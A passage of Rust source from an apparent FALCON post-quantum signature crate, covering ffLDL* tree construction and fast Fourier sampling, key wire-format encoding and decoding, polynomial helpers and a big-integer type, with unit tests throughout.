            want[0] = 1;
            assert_eq!(prod, want);
        }
        // x^n+1 style zero divisor: the all-zero polynomial is never
        // invertible.
        assert!(t.poly_inv(&vec![0u32; n]).is_none());
    }

    #[test]
    fn signed_mapping_roundtrip() {
        for v in -6144i32..=6144 {
            assert_eq!(mq_to_signed(mq_from_signed(v)), v);
        }
        assert_eq!(mq_from_signed(-1), Q - 1);
        assert_eq!(mq_to_signed(Q - 1), -1);
    }

    #[test]
    fn mq_helpers() {
        assert_eq!(mq_add(Q - 1, 2), 1);
        assert_eq!(mq_sub(0, 1), Q - 1);
        assert_eq!(mq_mul(Q - 1, Q - 1), 1);
        for a in [1u32, 2, 1234, Q - 1] {
            assert_eq!(mq_mul(a, mq_inv(a)), 1);
        }
    }
}
