//! The ffLDL* Gram tree and fast Fourier nearest-plane sampling.
//!
//! Key generation decomposes the Gram matrix `G = B̂·B̂*` of the secret
//! basis into a binary tree of LDL* factorisations ([`LdlTree::build`]);
//! each leaf ends up holding a standard deviation `σ/√(leaf value)`
//! (Algorithm 1, lines 5–8 of the paper). Signing then walks the tree
//! with [`ff_sampling`] (Algorithm 2, line 6), drawing each lattice
//! coordinate from [`sampler_z`].

use crate::fft::{
    at, poly_add, poly_merge_fft, poly_mul_fft, poly_muladj_fft, poly_split_fft, poly_sub, set,
    Cplx,
};
use crate::rng::Prng;
use crate::sampler::sampler_z;
use falcon_fpr::Fpr;

/// A node of the ffLDL* tree.
///
/// Inner nodes carry the FFT-domain `L` factor `l10` of their level's 2×2
/// LDL* decomposition; leaves carry the per-coordinate Gaussian standard
/// deviation.
#[derive(Debug, Clone)]
pub enum LdlTree {
    /// An internal node covering polynomials of `2^logn` coefficients.
    Node {
        /// FFT-domain `l10 = g10/g00` (layout size `2^logn`).
        l10: Vec<Fpr>,
        /// Subtree for the `d00` half.
        left: Box<LdlTree>,
        /// Subtree for the `d11` half.
        right: Box<LdlTree>,
    },
    /// A leaf: the (already normalised) sampling standard deviation.
    Leaf {
        /// `σ/√(diagonal value)`.
        sigma: Fpr,
    },
}

impl LdlTree {
    /// Builds the tree from the FFT-domain Gram matrix entries
    /// `(g00, g01, g11)` (each in FALCON layout, size `2^logn`), then
    /// normalises the leaves to `sigma / sqrt(leaf)`.
    pub fn build(g00: &[Fpr], g01: &[Fpr], g11: &[Fpr], sigma: Fpr) -> LdlTree {
        let mut t = Self::build_raw(g00, g01, g11);
        t.normalize(sigma);
        t
    }

    fn build_raw(g00: &[Fpr], g01: &[Fpr], g11: &[Fpr]) -> LdlTree {
        let n = g00.len();
        debug_assert!(n >= 2);
        // LDL*: l10 = adj(g01)/g00, d00 = g00,
        // d11 = g11 − l10·adj(l10)·g00.
        let mut l10 = g01.to_vec();
        let hn = n / 2;
        for j in 0..hn {
            let g0 = at(g00, j);
            // g10 = conj(g01); divide by the (real, positive) g00.
            let inv = g0.re.inv();
            set(&mut l10, j, at(g01, j).conj().scale(inv));
        }
        let mut d11 = g11.to_vec();
        for j in 0..hn {
            let l = at(&l10, j);
            let sub = l.norm_sq() * at(g00, j).re;
            let cur = at(&d11, j);
            set(&mut d11, j, Cplx::new(cur.re - sub, cur.im));
        }
        if n == 2 {
            return LdlTree::Node {
                l10,
                left: Box::new(LdlTree::Leaf { sigma: g00[0] }),
                right: Box::new(LdlTree::Leaf { sigma: d11[0] }),
            };
        }
        let (d00_0, d00_1) = poly_split_fft(g00);
        let (d11_0, d11_1) = poly_split_fft(&d11);
        let left = Self::build_raw(&d00_0, &d00_1, &d00_0);
        let right = Self::build_raw(&d11_0, &d11_1, &d11_0);
        LdlTree::Node { l10, left: Box::new(left), right: Box::new(right) }
    }

    /// Replaces each raw leaf value `v` (a Gaussian variance) by the
    /// sampling deviation `sigma/√v` — the paper's Algorithm 1, line 7.
    fn normalize(&mut self, sigma: Fpr) {
        match self {
            LdlTree::Leaf { sigma: v } => {
                *v = sigma / v.sqrt();
            }
            LdlTree::Node { left, right, .. } => {
                left.normalize(sigma);
                right.normalize(sigma);
            }
        }
    }

    /// Depth-first iterator over leaf sigmas (diagnostics and tests).
    pub fn leaf_sigmas(&self) -> Vec<Fpr> {
        match self {
            LdlTree::Leaf { sigma } => vec![*sigma],
            LdlTree::Node { left, right, .. } => {
                let mut v = left.leaf_sigmas();
                v.extend(right.leaf_sigmas());
                v
            }
        }
    }
}

/// Fast Fourier sampling (specification Algorithm 11): samples an
/// integral lattice point `(z0, z1)` close to the FFT-domain target
/// `(t0, t1)` under the Gram tree `tree`.
///
/// `sigma_min` is the parameter set's minimum deviation, forwarded to
/// [`sampler_z`].
pub fn ff_sampling(
    t0: &[Fpr],
    t1: &[Fpr],
    tree: &LdlTree,
    sigma_min: Fpr,
    rng: &mut Prng,
) -> (Vec<Fpr>, Vec<Fpr>) {
    if t0.len() == 1 {
        // Base case: the FFT representation of a 1-coefficient polynomial
        // is the coefficient itself; sample both coordinates.
        let LdlTree::Leaf { sigma } = tree else {
            unreachable!("tree/vector size mismatch");
        };
        let isigma = sigma.inv();
        let z0 = sampler_z(rng, t0[0], isigma, sigma_min);
        let z1 = sampler_z(rng, t1[0], isigma, sigma_min);
        return (vec![Fpr::from_i64(z0)], vec![Fpr::from_i64(z1)]);
    }
    let LdlTree::Node { l10, left, right } = tree else {
        unreachable!("tree/vector size mismatch");
    };

    // Second coordinate first, from the right subtree.
    let (t1_0, t1_1) = poly_split_fft(t1);
    let (z1_0, z1_1) = ff_sampling(&t1_0, &t1_1, right, sigma_min, rng);
    let z1 = poly_merge_fft(&z1_0, &z1_1);

    // t0' = t0 + (t1 − z1)·l10
    let mut tb = t1.to_vec();
    poly_sub(&mut tb, &z1);
    poly_mul_fft(&mut tb, l10);
    poly_add(&mut tb, t0);

    let (t0_0, t0_1) = poly_split_fft(&tb);
    let (z0_0, z0_1) = ff_sampling(&t0_0, &t0_1, left, sigma_min, rng);
    let z0 = poly_merge_fft(&z0_0, &z0_1);
    (z0, z1)
}

/// Convenience: FFT-domain Gram matrix of the basis
/// `B̂ = [[b00, b01], [b10, b11]]`, returning `(g00, g01, g11)`.
pub fn gram(b00: &[Fpr], b01: &[Fpr], b10: &[Fpr], b11: &[Fpr]) -> (Vec<Fpr>, Vec<Fpr>, Vec<Fpr>) {
    let n = b00.len();
    let mut g00 = b00.to_vec();
    poly_muladj_fft(&mut g00, b00);
    let mut t = b01.to_vec();
    poly_muladj_fft(&mut t, b01);
    poly_add(&mut g00, &t);

    let mut g01 = b00.to_vec();
    poly_muladj_fft(&mut g01, b10);
    let mut t = b01.to_vec();
    poly_muladj_fft(&mut t, b11);
    poly_add(&mut g01, &t);

    let mut g11 = b10.to_vec();
    poly_muladj_fft(&mut g11, b10);
    let mut t = b11.to_vec();
    poly_muladj_fft(&mut t, b11);
    poly_add(&mut g11, &t);

    debug_assert_eq!(g00.len(), n);
    (g00, g01, g11)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fft::fft;

    fn fft_of(ints: &[i64]) -> Vec<Fpr> {
        let mut v: Vec<Fpr> = ints.iter().map(|&c| Fpr::from_i64(c)).collect();
        fft(&mut v);
        v
    }

    #[test]
    fn tree_shape_and_leaf_count() {
        // A well-conditioned basis: diagonal-ish.
        let n = 8usize;
        let b00 = fft_of(&[4, 1, 0, 0, 0, 0, 0, -1]);
        let b01 = fft_of(&[1, 0, 0, 0, 0, 0, 0, 0]);
        let b10 = fft_of(&[0, 1, 0, 0, 0, 0, 0, 0]);
        let b11 = fft_of(&[5, 0, 0, 1, 0, 0, 0, 0]);
        let (g00, g01, g11) = gram(&b00, &b01, &b10, &b11);
        let tree = LdlTree::build(&g00, &g01, &g11, Fpr::from(10.0));
        // A tree over degree n has n leaves.
        let sigmas = tree.leaf_sigmas();
        assert_eq!(sigmas.len(), n);
        for s in sigmas {
            assert!(s.to_f64() > 0.0, "leaf sigma must be positive");
            assert!(s.to_f64().is_finite());
        }
    }

    #[test]
    fn sampling_returns_integer_vectors_near_target() {
        let n = 16usize;
        // Basis roughly c·I: g00 = g11 ≈ c², g01 ≈ 0.
        let mut ints0 = vec![0i64; n];
        ints0[0] = 9;
        let b00 = fft_of(&ints0);
        let b01 = fft_of(&vec![0i64; n]);
        let b10 = fft_of(&vec![0i64; n]);
        let b11 = fft_of(&ints0);
        let (g00, g01, g11) = gram(&b00, &b01, &b10, &b11);
        let sigma = Fpr::from(12.0);
        let tree = LdlTree::build(&g00, &g01, &g11, sigma);

        // Target: integer vector (3, ..., 3)/(1, ..., -2) in FFT domain.
        let t0 = fft_of(&vec![3i64; n]);
        let t1 = fft_of(&{
            let mut v = vec![1i64; n];
            v[1] = -2;
            v
        });
        let mut rng = Prng::from_seed(b"ffsampling");
        let smin = Fpr::from(1.2);
        let (z0, z1) = ff_sampling(&t0, &t1, &tree, smin, &mut rng);
        // z must be FFTs of integer polynomials: invert and check.
        for z in [z0, z1] {
            let mut c = z.clone();
            crate::fft::ifft(&mut c);
            for x in c {
                let v = x.to_f64();
                assert!((v - v.round()).abs() < 1e-6, "non-integer coordinate {v}");
            }
        }
    }

    #[test]
    fn sampling_distribution_centers_on_target() {
        // With a scaled-identity Gram, z0 should be a Gaussian around t0.
        let n = 4usize;
        let mut ints = vec![0i64; n];
        ints[0] = 8;
        let b00 = fft_of(&ints);
        let zeros = fft_of(&vec![0i64; n]);
        let (g00, g01, g11) = gram(&b00, &zeros, &zeros, &b00);
        let sigma = Fpr::from(12.0);
        let tree = LdlTree::build(&g00, &g01, &g11, sigma);
        let t0 = fft_of(&[5, 0, 0, 0]);
        let t1 = fft_of(&[0, 0, 0, 0]);
        let mut rng = Prng::from_seed(b"center");
        let mut acc = 0f64;
        let trials = 2000;
        for _ in 0..trials {
            let (z0, _) = ff_sampling(&t0, &t1, &tree, Fpr::from(1.2), &mut rng);
            let mut c = z0.clone();
            crate::fft::ifft(&mut c);
            acc += c[0].to_f64().round();
        }
        let mean = acc / trials as f64;
        assert!((mean - 5.0).abs() < 0.15, "mean={mean}");
    }
}
