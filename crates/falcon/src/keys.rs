//! Key serialisation in the specification's wire formats.
//!
//! * Public key: header byte `0x00 | logn`, then the `n` coefficients of
//!   `h` packed on 14 bits each — 897 bytes for FALCON-512.
//! * Private key: header byte `0x50 | logn`, then `f`, `g` packed on
//!   `max_fg_bits(logn)` bits (two's complement) and `F` on 8 bits; `G`
//!   is not stored — it is recomputed from the NTRU equation
//!   (`G ≡ f⁻¹·g·F mod q`, lifted to its small representative) — giving
//!   1281 bytes for FALCON-512.

use crate::keygen::{SigningKey, VerifyingKey};
use crate::ntt::{mq_from_signed, mq_mul, mq_to_signed, NttTables};
use crate::params::{LogN, Q};

/// Signed coefficient width for `f` and `g` per `logn` (reference
/// implementation's `max_fg_bits`).
pub fn max_fg_bits(logn: u32) -> u32 {
    match logn {
        1..=5 => 8,
        6 | 7 => 7,
        8 | 9 => 6,
        _ => 5,
    }
}

/// Signed coefficient width for `F` (and `G`): 8 bits at the production
/// degrees, as in the specification. At the small test degrees the NTRU
/// solutions carry far larger coefficients (the norm `≈ 1.17√q` spreads
/// over fewer entries), so those use a 14-bit field — a documented
/// deviation that only affects test-size keys.
pub fn max_capfg_bits(logn: u32) -> u32 {
    if logn >= 8 {
        8
    } else {
        14
    }
}

struct BitWriter {
    out: Vec<u8>,
    acc: u64,
    nbits: u32,
}

impl BitWriter {
    fn new() -> Self {
        BitWriter { out: Vec::new(), acc: 0, nbits: 0 }
    }
    fn push(&mut self, v: u64, bits: u32) {
        self.acc = (self.acc << bits) | (v & ((1 << bits) - 1));
        self.nbits += bits;
        while self.nbits >= 8 {
            self.nbits -= 8;
            self.out.push((self.acc >> self.nbits) as u8);
        }
    }
    fn finish(mut self) -> Vec<u8> {
        if self.nbits > 0 {
            let pad = 8 - self.nbits;
            self.push(0, pad);
        }
        self.out
    }
}

struct BitReader<'a> {
    buf: &'a [u8],
    pos: usize,
    acc: u64,
    nbits: u32,
}

impl<'a> BitReader<'a> {
    fn new(buf: &'a [u8]) -> Self {
        BitReader { buf, pos: 0, acc: 0, nbits: 0 }
    }
    fn read(&mut self, bits: u32) -> Option<u64> {
        while self.nbits < bits {
            let b = *self.buf.get(self.pos)?;
            self.pos += 1;
            self.acc = (self.acc << 8) | b as u64;
            self.nbits += 8;
        }
        self.nbits -= bits;
        Some((self.acc >> self.nbits) & ((1 << bits) - 1))
    }
    fn rest_is_zero_padding(&mut self) -> bool {
        while self.nbits > 0 {
            self.nbits -= 1;
            if (self.acc >> self.nbits) & 1 != 0 {
                return false;
            }
        }
        self.pos == self.buf.len()
    }
}

fn sign_extend(v: u64, bits: u32) -> i16 {
    let shift = 64 - bits;
    (((v << shift) as i64) >> shift) as i16
}

fn fits_signed(v: i16, bits: u32) -> bool {
    let lo = -(1i32 << (bits - 1));
    let hi = (1i32 << (bits - 1)) - 1;
    (v as i32) >= lo && (v as i32) <= hi
}

/// Encoded public-key length in bytes.
pub fn public_key_len(logn: u32) -> usize {
    1 + ((1usize << logn) * 14).div_ceil(8)
}

/// True when the encoding stores `G` explicitly (test degrees, where
/// `G`'s range exceeds the centered mod-q lift); at production degrees
/// `G` is reconstructed from the NTRU equation, as in the specification.
pub fn stores_capg(logn: u32) -> bool {
    logn < 8
}

/// Encoded private-key length in bytes.
pub fn secret_key_len(logn: u32) -> usize {
    let n = 1usize << logn;
    let cap_polys = if stores_capg(logn) { 2 } else { 1 };
    1 + (2 * n * max_fg_bits(logn) as usize).div_ceil(8)
        + (cap_polys * n * max_capfg_bits(logn) as usize).div_ceil(8)
}

impl VerifyingKey {
    /// Serialises to the specification's public-key format (897 bytes
    /// for FALCON-512).
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut w = BitWriter::new();
        for &c in self.h() {
            debug_assert!((c as u32) < Q);
            w.push(c as u64, 14);
        }
        let mut out = vec![self.logn().logn() as u8];
        out.extend(w.finish());
        out
    }

    /// Parses the public-key format; `None` on malformed input
    /// (wrong length, out-of-range coefficient, nonzero padding).
    pub fn from_bytes(bytes: &[u8]) -> Option<VerifyingKey> {
        let (&header, rest) = bytes.split_first()?;
        if header & 0xF0 != 0 {
            return None;
        }
        let logn = LogN::new((header & 0x0F) as u32)?;
        if bytes.len() != public_key_len(logn.logn()) {
            return None;
        }
        let mut r = BitReader::new(rest);
        let mut h = Vec::with_capacity(logn.n());
        for _ in 0..logn.n() {
            let v = r.read(14)?;
            if v >= Q as u64 {
                return None;
            }
            h.push(v as u16);
        }
        r.rest_is_zero_padding().then(|| VerifyingKey::from_h(logn, h))
    }
}

impl SigningKey {
    /// Serialises to the specification's private-key format (1281 bytes
    /// for FALCON-512): header, `f`, `g`, `F` (`G` is recomputed on
    /// decode).
    ///
    /// Returns `None` if a coefficient exceeds its fixed field width
    /// (statistically negligible for honestly generated keys; such keys
    /// are regenerated by real implementations).
    pub fn to_bytes(&self) -> Option<Vec<u8>> {
        let logn = self.logn().logn();
        let fg_bits = max_fg_bits(logn);
        let mut w = BitWriter::new();
        for poly in [self.f(), self.g()] {
            for &c in poly {
                if !fits_signed(c, fg_bits) {
                    return None;
                }
                w.push(c as u64, fg_bits);
            }
        }
        let cap_bits = max_capfg_bits(logn);
        let cap_polys: &[&[i16]] =
            if stores_capg(logn) { &[self.cap_f(), self.cap_g()] } else { &[self.cap_f()] };
        for poly in cap_polys {
            for &c in poly.iter() {
                if !fits_signed(c, cap_bits) {
                    return None;
                }
                w.push(c as u64, cap_bits);
            }
        }
        let mut out = vec![0x50 | logn as u8];
        out.extend(w.finish());
        Some(out)
    }

    /// Parses the private-key format and rebuilds the full signing state
    /// (public key, `G`, FFT basis and sampling tree).
    ///
    /// Returns `None` on malformed input or when the polynomials do not
    /// satisfy the NTRU equation (e.g. `f` not invertible).
    pub fn from_bytes(bytes: &[u8]) -> Option<SigningKey> {
        let (&header, rest) = bytes.split_first()?;
        if header & 0xF0 != 0x50 {
            return None;
        }
        let logn = LogN::new((header & 0x0F) as u32)?;
        if bytes.len() != secret_key_len(logn.logn()) {
            return None;
        }
        let n = logn.n();
        let fg_bits = max_fg_bits(logn.logn());
        let mut r = BitReader::new(rest);
        let mut read_poly = |bits: u32| -> Option<Vec<i16>> {
            (0..n).map(|_| r.read(bits).map(|v| sign_extend(v, bits))).collect()
        };
        let f = read_poly(fg_bits)?;
        let g = read_poly(fg_bits)?;
        let capf = read_poly(max_capfg_bits(logn.logn()))?;
        let stored_capg = if stores_capg(logn.logn()) {
            Some(read_poly(max_capfg_bits(logn.logn()))?)
        } else {
            None
        };
        if !r.rest_is_zero_padding() {
            return None;
        }

        // h = g·f⁻¹ and, when not stored, G ≡ f⁻¹·g·F (mod q) lifted to
        // centered form (valid at production degrees, where |G| < q/2).
        let tables = NttTables::new(logn.logn());
        let mut fq: Vec<u32> = f.iter().map(|&v| mq_from_signed(v as i32)).collect();
        let mut gq: Vec<u32> = g.iter().map(|&v| mq_from_signed(v as i32)).collect();
        let mut cfq: Vec<u32> = capf.iter().map(|&v| mq_from_signed(v as i32)).collect();
        tables.ntt(&mut fq);
        if fq.contains(&0) {
            return None;
        }
        tables.ntt(&mut gq);
        tables.ntt(&mut cfq);
        let mut hq = Vec::with_capacity(n);
        let mut capg_q = Vec::with_capacity(n);
        for i in 0..n {
            let finv = crate::ntt::mq_inv(fq[i]);
            hq.push(mq_mul(gq[i], finv));
            capg_q.push(mq_mul(mq_mul(gq[i], cfq[i]), finv));
        }
        tables.intt(&mut hq);
        tables.intt(&mut capg_q);
        let h: Vec<u16> = hq.into_iter().map(|v| v as u16).collect();
        let capg: Vec<i16> = match stored_capg {
            Some(v) => v,
            None => capg_q.into_iter().map(|v| mq_to_signed(v) as i16).collect(),
        };

        if !crate::keygen::ntru_equation_holds(&f, &g, &capf, &capg) {
            return None;
        }
        Some(SigningKey::from_private(logn, &f, &g, &capf, &capg, h))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::keygen::KeyPair;
    use crate::rng::Prng;

    fn pair(logn: u32, seed: &[u8]) -> KeyPair {
        let mut rng = Prng::from_seed(seed);
        KeyPair::generate(LogN::new(logn).unwrap(), &mut rng)
    }

    #[test]
    fn spec_lengths() {
        assert_eq!(public_key_len(9), 897);
        assert_eq!(secret_key_len(9), 1281);
        assert_eq!(public_key_len(10), 1793);
        assert_eq!(secret_key_len(10), 2305);
    }

    #[test]
    fn public_key_roundtrip() {
        let kp = pair(4, b"pk codec");
        let bytes = kp.verifying_key().to_bytes();
        assert_eq!(bytes.len(), public_key_len(4));
        let back = VerifyingKey::from_bytes(&bytes).expect("parses");
        assert_eq!(&back, kp.verifying_key());
        // Corruption checks.
        assert!(VerifyingKey::from_bytes(&bytes[..bytes.len() - 1]).is_none());
        let mut bad = bytes.clone();
        bad[0] = 0x80;
        assert!(VerifyingKey::from_bytes(&bad).is_none());
    }

    #[test]
    fn secret_key_roundtrip_and_reconstruction() {
        let kp = pair(4, b"sk codec");
        let sk = kp.signing_key();
        let bytes = sk.to_bytes().expect("key fits the fixed widths");
        assert_eq!(bytes.len(), secret_key_len(4));
        let back = SigningKey::from_bytes(&bytes).expect("parses");
        assert_eq!(back.f(), sk.f());
        assert_eq!(back.g(), sk.g());
        assert_eq!(back.cap_f(), sk.cap_f());
        assert_eq!(back.cap_g(), sk.cap_g(), "G must be reconstructed exactly");
        assert_eq!(back.h(), sk.h());
        // The reconstructed key signs and the original public key
        // verifies.
        let mut rng = Prng::from_seed(b"sk codec sig");
        let sig = back.sign(b"serialisation probe", &mut rng);
        assert!(kp.verifying_key().verify(b"serialisation probe", &sig));
    }

    #[test]
    fn corrupted_secret_key_rejected() {
        let kp = pair(3, b"sk corrupt");
        let bytes = kp.signing_key().to_bytes().unwrap();
        // Flipping key material breaks the NTRU equation (or produces a
        // different-but-valid key only with negligible probability).
        let mut bad = bytes.clone();
        bad[5] ^= 0xFF;
        if let Some(k) = SigningKey::from_bytes(&bad) {
            assert_ne!(k.f(), kp.signing_key().f());
        }
        // Header and length checks.
        let mut bad = bytes.clone();
        bad[0] = 0x30;
        assert!(SigningKey::from_bytes(&bad).is_none());
        assert!(SigningKey::from_bytes(&bytes[..10]).is_none());
    }

    #[test]
    fn sign_extend_helper() {
        assert_eq!(sign_extend(0b111111, 6), -1);
        assert_eq!(sign_extend(0b011111, 6), 31);
        assert_eq!(sign_extend(0b100000, 6), -32);
        assert_eq!(sign_extend(0xFF, 8), -1);
    }
}
