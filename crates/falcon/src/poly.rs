//! Small-coefficient integer polynomial helpers.

use crate::ntt::{mq_from_signed, mq_to_signed, NttTables};
use crate::params::Q;

/// Squared Euclidean norm of signed coefficient vectors, saturating at
/// `u64::MAX` (cannot overflow in practice; FALCON vectors are short).
pub fn norm_sq(polys: &[&[i16]]) -> u64 {
    let mut acc = 0u64;
    for p in polys {
        for &c in p.iter() {
            acc = acc.saturating_add((c as i64 * c as i64) as u64);
        }
    }
    acc
}

/// Centered product `a·b mod (x^n + 1, q)` of signed polynomials, using
/// the NTT; the result coefficients are in `(-q/2, q/2]`.
pub fn mul_mod_q_centered(a: &[i16], b: &[u16], tables: &NttTables) -> Vec<i16> {
    let av: Vec<u32> = a.iter().map(|&v| mq_from_signed(v as i32)).collect();
    let bv: Vec<u32> = b.iter().map(|&v| v as u32).collect();
    tables.poly_mul(&av, &bv).into_iter().map(|v| mq_to_signed(v) as i16).collect()
}

/// Reduces an unsigned `[0, q)` polynomial to centered signed form.
pub fn center(v: &[u16]) -> Vec<i16> {
    v.iter().map(|&x| mq_to_signed(x as u32) as i16).collect()
}

/// Lifts a signed polynomial to `[0, q)` representatives.
pub fn to_unsigned(v: &[i16]) -> Vec<u16> {
    v.iter().map(|&x| mq_from_signed(x as i32) as u16).collect()
}

/// True if all coefficients are within `(-q/2, q/2]`.
pub fn is_centered(v: &[i16]) -> bool {
    v.iter().all(|&x| {
        let x = x as i32;
        // q is odd: centered representatives are -(q-1)/2 ..= (q-1)/2.
        x >= -((Q as i32 - 1) / 2) && x <= (Q as i32 - 1) / 2
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn norms() {
        assert_eq!(norm_sq(&[&[3, -4]]), 25);
        assert_eq!(norm_sq(&[&[1, 1], &[2, 2]]), 10);
        assert_eq!(norm_sq(&[&[]]), 0);
    }

    #[test]
    fn unsigned_roundtrip() {
        let v: Vec<i16> = vec![0, 1, -1, 6144, -6144, 37];
        assert_eq!(center(&to_unsigned(&v)), v);
        assert!(is_centered(&v));
        assert!(!is_centered(&[-6145]));
        assert!(is_centered(&[6144]));
    }

    #[test]
    fn centered_ntt_multiplication() {
        let t = NttTables::new(3);
        // (1 - x)·(1 + x) = 1 - x² in Z[x]/(x^8+1).
        let a: Vec<i16> = vec![1, -1, 0, 0, 0, 0, 0, 0];
        let b: Vec<u16> = to_unsigned(&[1, 1, 0, 0, 0, 0, 0, 0]);
        let r = mul_mod_q_centered(&a, &b, &t);
        assert_eq!(r, vec![1, 0, -1, 0, 0, 0, 0, 0]);
    }
}
