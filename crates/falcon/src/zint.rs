//! Signed arbitrary-precision integers.
//!
//! The NTRU equation solver works with resultant-sized integers (several
//! thousand bits for FALCON-512). This module provides the minimal exact
//! integer arithmetic it needs — sign-magnitude representation over `u64`
//! limbs with Karatsuba multiplication, shifting, extended GCD and a
//! top-bits extraction used by the Babai reduction — with no external
//! dependency.

use core::cmp::Ordering;
use core::fmt;

/// A signed arbitrary-precision integer (sign-magnitude, little-endian
/// `u64` limbs, no trailing zero limbs; zero is the empty magnitude).
#[derive(Clone, PartialEq, Eq, Default)]
pub struct Zint {
    neg: bool,
    mag: Vec<u64>,
}

impl fmt::Debug for Zint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.is_zero() {
            return write!(f, "Zint(0)");
        }
        write!(f, "Zint({}0x", if self.neg { "-" } else { "" })?;
        for limb in self.mag.iter().rev() {
            write!(f, "{limb:016x}")?;
        }
        write!(f, ")")
    }
}

impl Zint {
    /// Zero.
    pub fn zero() -> Zint {
        Zint::default()
    }

    /// One.
    pub fn one() -> Zint {
        Zint::from_i64(1)
    }

    /// Builds from a machine integer.
    pub fn from_i64(v: i64) -> Zint {
        let neg = v < 0;
        let m = v.unsigned_abs();
        let mag = if m == 0 { Vec::new() } else { vec![m] };
        Zint { neg, mag }
    }

    /// True when the value is zero.
    #[inline]
    pub fn is_zero(&self) -> bool {
        self.mag.is_empty()
    }

    /// True when the value is strictly negative.
    #[inline]
    pub fn is_negative(&self) -> bool {
        self.neg && !self.is_zero()
    }

    /// Number of significant bits of the magnitude (0 for zero).
    pub fn bits(&self) -> u32 {
        match self.mag.last() {
            None => 0,
            Some(&top) => 64 * (self.mag.len() as u32 - 1) + (64 - top.leading_zeros()),
        }
    }

    fn trim(&mut self) {
        while self.mag.last() == Some(&0) {
            self.mag.pop();
        }
        if self.mag.is_empty() {
            self.neg = false;
        }
    }

    fn cmp_mag(a: &[u64], b: &[u64]) -> Ordering {
        if a.len() != b.len() {
            return a.len().cmp(&b.len());
        }
        for (x, y) in a.iter().rev().zip(b.iter().rev()) {
            if x != y {
                return x.cmp(y);
            }
        }
        Ordering::Equal
    }

    #[allow(clippy::needless_range_loop)] // carry chains index both operands
    fn add_mag(a: &[u64], b: &[u64]) -> Vec<u64> {
        let (long, short) = if a.len() >= b.len() { (a, b) } else { (b, a) };
        let mut out = Vec::with_capacity(long.len() + 1);
        let mut carry = 0u64;
        for i in 0..long.len() {
            let s = short.get(i).copied().unwrap_or(0);
            let (t, c1) = long[i].overflowing_add(s);
            let (t, c2) = t.overflowing_add(carry);
            out.push(t);
            carry = u64::from(c1) + u64::from(c2);
        }
        if carry != 0 {
            out.push(carry);
        }
        out
    }

    /// `a - b` for `a >= b` (magnitudes).
    #[allow(clippy::needless_range_loop)] // borrow chains index both operands
    fn sub_mag(a: &[u64], b: &[u64]) -> Vec<u64> {
        debug_assert!(Self::cmp_mag(a, b) != Ordering::Less);
        let mut out = Vec::with_capacity(a.len());
        let mut borrow = 0u64;
        for i in 0..a.len() {
            let s = b.get(i).copied().unwrap_or(0);
            let (t, b1) = a[i].overflowing_sub(s);
            let (t, b2) = t.overflowing_sub(borrow);
            out.push(t);
            borrow = u64::from(b1) + u64::from(b2);
        }
        debug_assert_eq!(borrow, 0);
        let mut z = Zint { neg: false, mag: out };
        z.trim();
        z.mag
    }

    /// Signed addition.
    pub fn add(&self, other: &Zint) -> Zint {
        if self.neg == other.neg {
            Zint { neg: self.neg, mag: Self::add_mag(&self.mag, &other.mag) }
        } else {
            match Self::cmp_mag(&self.mag, &other.mag) {
                Ordering::Equal => Zint::zero(),
                Ordering::Greater => {
                    Zint { neg: self.neg, mag: Self::sub_mag(&self.mag, &other.mag) }
                }
                Ordering::Less => {
                    Zint { neg: other.neg, mag: Self::sub_mag(&other.mag, &self.mag) }
                }
            }
        }
    }

    /// Signed subtraction.
    pub fn sub(&self, other: &Zint) -> Zint {
        self.add(&other.negated())
    }

    /// Absolute value.
    pub fn abs(&self) -> Zint {
        Zint { neg: false, mag: self.mag.clone() }
    }

    /// Negated copy.
    pub fn negated(&self) -> Zint {
        if self.is_zero() {
            Zint::zero()
        } else {
            Zint { neg: !self.neg, mag: self.mag.clone() }
        }
    }

    fn mul_mag_school(a: &[u64], b: &[u64]) -> Vec<u64> {
        if a.is_empty() || b.is_empty() {
            return Vec::new();
        }
        let mut out = vec![0u64; a.len() + b.len()];
        for (i, &x) in a.iter().enumerate() {
            if x == 0 {
                continue;
            }
            let mut carry = 0u128;
            for (j, &y) in b.iter().enumerate() {
                let t = out[i + j] as u128 + (x as u128) * (y as u128) + carry;
                out[i + j] = t as u64;
                carry = t >> 64;
            }
            let mut k = i + b.len();
            while carry != 0 {
                let t = out[k] as u128 + carry;
                out[k] = t as u64;
                carry = t >> 64;
                k += 1;
            }
        }
        while out.last() == Some(&0) {
            out.pop();
        }
        out
    }

    fn mul_mag(a: &[u64], b: &[u64]) -> Vec<u64> {
        const KARATSUBA_CUTOFF: usize = 24;
        let shorter = a.len().min(b.len());
        if shorter < KARATSUBA_CUTOFF {
            return Self::mul_mag_school(a, b);
        }
        let half = a.len().max(b.len()) / 2;
        let (a0, a1) = a.split_at(half.min(a.len()));
        let (b0, b1) = b.split_at(half.min(b.len()));
        // a = a0 + a1·2^(64·half), similarly b.
        let z0 = Self::mul_mag(a0, b0);
        let z2 = Self::mul_mag(a1, b1);
        let sa = Self::add_mag(a0, a1);
        let sb = Self::add_mag(b0, b1);
        let z1 = Self::mul_mag(&sa, &sb);
        // z1 -= z0 + z2 (magnitudes; never negative for Karatsuba).
        let z1 = Self::sub_mag(&Self::sub_mag_vec(z1, &z0), &z2);

        let mut out = vec![0u64; a.len() + b.len() + 1];
        Self::acc_at(&mut out, &z0, 0);
        Self::acc_at(&mut out, &z1, half);
        Self::acc_at(&mut out, &z2, 2 * half);
        while out.last() == Some(&0) {
            out.pop();
        }
        out
    }

    fn sub_mag_vec(a: Vec<u64>, b: &[u64]) -> Vec<u64> {
        Self::sub_mag(&a, b)
    }

    fn acc_at(out: &mut [u64], v: &[u64], at: usize) {
        let mut carry = 0u64;
        let mut i = 0;
        while i < v.len() || carry != 0 {
            let add = v.get(i).copied().unwrap_or(0);
            let (t, c1) = out[at + i].overflowing_add(add);
            let (t, c2) = t.overflowing_add(carry);
            out[at + i] = t;
            carry = u64::from(c1) + u64::from(c2);
            i += 1;
        }
    }

    /// Signed multiplication.
    pub fn mul(&self, other: &Zint) -> Zint {
        let mut z = Zint { neg: self.neg != other.neg, mag: Self::mul_mag(&self.mag, &other.mag) };
        z.trim();
        z
    }

    /// Multiplication by a machine integer.
    pub fn mul_i64(&self, v: i64) -> Zint {
        self.mul(&Zint::from_i64(v))
    }

    /// Left shift by `sh` bits.
